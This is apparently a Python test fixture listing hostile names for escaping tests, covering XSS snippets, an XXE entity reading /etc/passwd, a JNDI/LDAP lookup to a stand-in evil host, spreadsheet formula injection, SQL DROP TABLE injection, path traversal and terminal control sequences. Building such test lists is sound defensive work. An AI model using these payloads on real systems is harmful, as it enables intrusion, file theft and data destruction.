"""Names that try to get out of where they are put: into HTML, a terminal, a spreadsheet, XML, a file's syntax."""

MARK = b"injected"  # what a script that runs would set, and what a broken element would be named

HOSTILE = [
    b"<script>window.injected=1</script>", b"</script><script>window.injected=1</script>", b"<img src=x onerror=window.injected=1>",
    b"<svg onload=window.injected=1>", b"</text></svg><script>window.injected=1</script>", b"</title><script>injected=1</script>",
    b"</style><script>window.injected=1</script>", b"<style>*{display:none}</style>", b"<iframe src=javascript:injected=1>",
    b"<a href=javascript:injected=1>x</a>", b"<base href=//evil.example/>", b"<meta http-equiv=refresh content=0;url=//x.example>",
    b"<link rel=stylesheet href=//evil.example/x.css>", b"<body onload=injected=1>", b"<details open ontoggle=injected=1>",
    b"\"><script>window.injected=1</script>", b"'><script>window.injected=1</script>", b"\" onmouseover=\"injected=1", b"' onfocus='injected=1",
    b"`onload=injected=1`", b"--><script>injected=1</script><!--", b"]]><injected/>", b"<![CDATA[<injected>]]>", b"<!--", b"-->", b"<injected/>",
    b"<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>", b"&xxe;", b"&lt;script&gt;", b"&#60;script&#62;", b"&amp;amp;",
    b"<?xml version=\"1.0\"?>", b"<node id=\"injected\"/>", b"</data></node><node id=\"injected\">",
    b"\x1b[31mred\x1b[0m.example", b"\x1b]0;title\x07.example", b"\x1b]8;;http://evil.example\x1b\\x", b"\x9b31m.example", b"\x07bell.example",
    b"back\x08\x08\x08.example", b"over\rwrite.example", b"two\nlines.example", b"tab\tbed.example", b"nul\x00l.example", b"\x7fdel.example",
    "\u202egnp.exe.example".encode(), "\u2066\u2069iso.example".encode(), "\ufeffbom.example".encode(), "zero\u200bwidth.example".encode(),
    b"\xff\xfe\xfd.example", b"=cmd|' /C calc'!A0", b"=1+1", b"+1+1.example", b"-2+3.example", b"@SUM(A1).example", b"=HYPERLINK(\"http://x\")",
    b"\"=1+1\"", b"a,b;c\td", b"\",=1+1,\"", b"$\\frac{1}{2}$.example", b"%s%n%x.example", b"../../etc/passwd", b"'; DROP TABLE names; --",
    b"${jndi:ldap://evil.example}", b"{{7*7}}.example", b"\\x1b[31m.example", b"javascript:injected=1",
]
assert len(set(HOSTILE)) >= 60
